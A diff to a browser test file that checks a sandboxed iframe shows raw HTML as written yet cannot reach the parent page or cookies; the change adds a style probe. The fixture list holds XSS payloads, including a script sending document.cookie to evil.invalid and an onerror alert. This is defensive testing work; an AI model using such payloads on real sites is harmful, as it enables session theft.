@@ -11,6 +11,7 @@ const base = `http://127.0.0.1:${port}`;
 const RAW = [
   '<h1 style="color: rebeccapurple; position: sticky">Raw heading</h1>',
   "<p id=probe>as written</p>",
+  "<style>#probe { color: rgb(0, 128, 0) }</style>",
   "<script>parent.document.title = 'pwned'; fetch('http://evil.invalid/?' + document.cookie)</script>",
   "<img src=x onerror=\"alert('onerror')\">",
   '<form action="http://evil.invalid/form"><input name=q></form>',
@@ -103,6 +104,7 @@ test("trusted mode: keyed HTML shows as written in a sandbox that cannot reach t
     const frame = page.frameLocator("iframe.trusted-frame");
     await expect(frame.getByRole("heading", { name: "Raw heading" })).toHaveCSS("color", "rgb(102, 51, 153)");
     await expect(frame.locator("#probe")).toHaveText("as written");
+    await expect(frame.locator("#probe")).toHaveCSS("color", "rgb(0, 128, 0)");
     await expect(frame.locator("form")).toHaveCount(1);
 
     // From inside the frame: an opaque origin, so the parent's DOM and the site's cookies are out of reach.
